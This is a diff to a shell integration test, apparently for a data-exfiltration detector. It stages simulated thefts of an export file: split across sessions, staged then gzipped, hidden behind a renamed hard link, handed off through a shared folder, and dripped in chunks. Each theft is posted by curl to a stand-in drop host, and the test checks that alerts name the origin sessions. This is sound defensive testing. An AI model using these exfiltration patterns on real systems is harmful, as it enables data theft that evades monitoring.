@@ -5,9 +5,9 @@
 # 50,000 rows, under every per-person volume figure) and get it out in one of the ways
 # the issue lists; each person is new to the agent, so nothing but that scenario counts
 # for them. Every malicious scenario must alert on the session that sent the data, within
-# 5 s of the workload's end; no benign one may alert. Not here: the ring (three people
-# each under detect.exfil) is the central service's rule (test_central), and media
-# (test_harden_paths). Prints the score.
+# 5 s of the workload's end, naming the sessions the data was read in; no benign one may
+# alert. Not here: the ring (three people each under detect.exfil) is the central
+# service's rule (test_central), and media (test_harden_paths). Prints the score.
 LINEAGE_DEFAULTS=1
 . "$(dirname "$0")/../lib/itest.sh"
 . "$LIB/lineage_fixture.sh"
@@ -26,10 +26,11 @@ way() { echo "python3 $LIB/upload_ways.py $1 $2 $DROP"; }
 home() { getent passwd "$1" | cut -d: -f6; }
 
 CAUGHT=0 MALICIOUS=0 SLOW=0
-# malicious NAME INFO: the session in INFO sent the export; its alert must come within
-# 5 s (polled every 0.1 s from the workload's end, up to 30 s so a late one is named).
+# malicious NAME INFO [ORIGIN_INFO...]: the session in INFO sent the export; its alert
+# must come within 5 s (polled every 0.1 s from the workload's end, up to 30 s so a late
+# one is named) and name the sessions the data was read in (ORIGIN_INFO, else INFO's).
 malicious() {
-	local name=$1 s waited=0
+	local name=$1 s waited=0 o
 	s=$(info_session "$2")
 	MALICIOUS=$((MALICIOUS + 1))
 	while [ "$(alerts count --session "$s")" = 0 ] && [ "$waited" -lt 300 ]; do
@@ -44,6 +45,11 @@ malicious() {
 	[ "$waited" -le 50 ] || SLOW=$((SLOW + 1))
 	check "$name: alert on the sending session within 5 s (after $((waited / 10)).$((waited % 10)) s)" \
 		"$(( waited <= 50 ))" 1
+	[ $# -gt 2 ] || set -- "$1" "$2" "$2"
+	for o in "${@:3}"; do
+		check "$name: the alert names origin session $(info_session "$o")" \
+			"$(derived --session "$s" --origin-session "$(info_session "$o")")" 1
+	done
 }
 benign() {
 	sleep 2
@@ -70,17 +76,18 @@ in_session 1107 "$T/m7a.info" bash -c "head -c $half $EXPORT > ~/part-a.csv" || 
 in_session 1107 "$T/m7b.info" bash -c "tail -c +$((half + 1)) $EXPORT > ~/part-b.csv &&
 	cat ~/part-a.csv ~/part-b.csv | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
 	die "split b"
-malicious "a pull split over two sessions, sent from the second" "$T/m7b.info"
+malicious "a pull split over two sessions, sent from the second" "$T/m7b.info" \
+	"$T/m7a.info" "$T/m7b.info"
 in_session 1108 "$T/m8a.info" bash -c "cp $EXPORT ~/stage.csv" || die "stage"
 in_session 1108 "$T/m8b.info" bash -c "gzip -1 -c ~/stage.csv | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
 	die "stage upload"
-malicious "staged in one session, uploaded in the next" "$T/m8b.info"
+malicious "staged in one session, uploaded in the next" "$T/m8b.info" "$T/m8a.info"
 in_session 1109 "$T/m9.info" bash -c "cp $EXPORT ~/x.csv && ln -f ~/x.csv ~/IMG_2041.jpg && rm ~/x.csv &&
 	$(upload '~/IMG_2041.jpg')" || die "hard link"
 malicious "a renamed hard link uploaded" "$T/m9.info"
 in_session 1110 "$T/m10a.info" cp "$EXPORT" "$SHARE/for-ken.csv" || die "hand-off a"
 in_session 1111 "$T/m10b.info" bash -c "$(upload "$SHARE/for-ken.csv")" || die "hand-off b"
-malicious "a hand-off through the shared folder" "$T/m10b.info"
+malicious "a hand-off through the shared folder" "$T/m10b.info" "$T/m10a.info"
 in_session 1112 "$T/m11.info" bash -c "cp $EXPORT ~/drip.csv &&
 	for i in \$(seq 0 15); do
 		dd if=\$HOME/drip.csv bs=1M skip=\$i count=1 status=none |
